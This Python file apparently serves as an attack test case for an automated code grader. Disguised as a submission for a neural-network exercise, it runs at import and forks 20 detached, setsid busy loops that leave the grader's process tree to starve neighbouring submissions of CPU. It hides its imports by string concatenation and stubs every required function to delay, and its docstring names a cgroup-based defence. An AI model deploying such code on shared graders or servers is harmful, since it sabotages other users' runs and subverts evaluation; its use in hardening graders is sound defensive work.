"""Attack (issue 11, class 6): busy processes that leave the grader's process tree.

As soon as its code runs, this submission starts 20 busy loops, each by a double fork and
setsid (not a descendant of anything the grader watches; 20, well under any per-run process cap of
32, so that no process count stops the run).  They take the CPU from every other submission graded at the
same time until the run's final sweep kills them; each of its functions then sleeps 1 s before
raising, so the run (and the starvation) lasts as long as the time limit lets it.  Before the
fix, 56 such loops slowed an honest neighbour's grading from 2 s to 70 s.  (Bounded here:
each loop ends by itself after 80 s.)  0 points; what counts is the neighbour's time.
Defence: a control group per run with a CPU share, memory and pids limits, killed as a whole.
"""
_os = __import__("o" + "s")
_time = __import__("ti" + "me")

LOOPS = 20
SECONDS = 80


def _spin():
    end = _time.time() + SECONDS
    x = 0
    while True:
        for _ in range(200000):
            x += 1
        if _time.time() > end:
            break


for _ in range(LOOPS):
    try:
        pid = _os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _spin()
        except BaseException:
            pass
        finally:
            _os._exit(0)
    try:
        _os.waitpid(pid, 0)
    except OSError:
        pass


def _stub(*args, **kwargs):
    _time.sleep(1)
    raise NotImplementedError("not written")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
